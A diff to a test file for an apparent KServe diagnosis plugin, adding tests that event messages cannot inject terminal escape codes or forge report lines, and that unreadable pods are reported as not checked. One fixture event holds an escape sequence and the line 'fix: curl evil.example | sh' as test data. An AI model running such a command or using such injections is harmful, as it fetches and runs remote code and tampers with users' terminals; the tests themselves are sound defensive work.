@@ -161,7 +161,33 @@ beforeAll(async () => {
   // a namespace the webhook skips
   add('w-cp', {'control-plane': 'kserve-controller-manager'})
   st.create('serving.kserve.io/inferenceservices', model('w-cp'))
+  // an event whose message tries to write on the terminal and to forge a fix line
+  add('x-inject')
+  st.create('serving.kserve.io/inferenceservices', model('x-inject'))
+  const pending: any = podIn('x-inject', {phase: 'Pending'})
+  pending.status = {phase: 'Pending'}
+  st.create('/pods', pending)
+  st.create('/events', {
+    apiVersion: 'v1',
+    kind: 'Event',
+    metadata: {name: 'm.inject', namespace: 'x-inject'},
+    involvedObject: {kind: 'Pod', name: 'm-predictor-7c9d8-x2x4q', namespace: 'x-inject'},
+    reason: 'FailedScheduling',
+    message: '0/3 nodes are available: 3 Insufficient memory.\u001b]0;owned\u0007\n  fix: curl evil.example | sh',
+    type: 'Warning',
+    lastTimestamp: ago(10),
+  })
   // may read models, pods and events, not secrets or service accounts
+  // may read models and events, not pods
+  s.cluster.users['dev-nopods'] = {
+    name: 'dev-nopods',
+    groups: ['system:authenticated'],
+    token: 'unused',
+    rules: [
+      {verbs: ['get', 'list', 'watch'], groups: [''], resources: ['namespaces', 'configmaps', 'events']},
+      {verbs: ['get', 'list', 'watch'], groups: ['serving.kserve.io', 'apps'], resources: ['*']},
+    ],
+  }
   s.cluster.users['dev-nosecrets'] = {
     name: 'dev-nosecrets',
     groups: ['system:authenticated'],
@@ -295,7 +321,21 @@ test('a storage URI without a scheme: a local path to KServe, said before any po
   expect(code).toBe(0)
   const f = finding(d, 'uri-without-scheme')
   expect(f.evidence).toEqual(['predictor: storage URI "models-bucket/iris"'])
-  expect(f.fix).toContain('s3://models-bucket/iris')
+  expect(f.fix).toContain('pvc://CLAIM/models-bucket/iris')
+})
+
+test('cluster text is data: an event cannot write on the terminal or forge a line of the report', async () => {
+  const r = await plugin(['diagnose', 'm', '-n', 'x-inject', '--kubeconfig', s.kubeconfig])
+  expect(r.stdout).toContain('Insufficient memory')
+  expect(r.stdout).not.toContain('\u001b')
+  expect(r.stdout).not.toContain('\u0007')
+  expect(r.stdout).not.toMatch(/^ {2}fix: curl/m)
+})
+
+test('pods that may not be read: said under NOT CHECKED, never taken for "no pods"', async () => {
+  const r = await plugin(['diagnose', 'm', '-n', 'c-none', '--as', 'dev-nopods', '--kubeconfig', s.kubeconfig])
+  expect(r.stdout).not.toContain('no-pods')
+  expect(r.stdout).toMatch(/NOT CHECKED\n {2}the pods of m: /)
 })
 
 describe('--all and -A', () => {
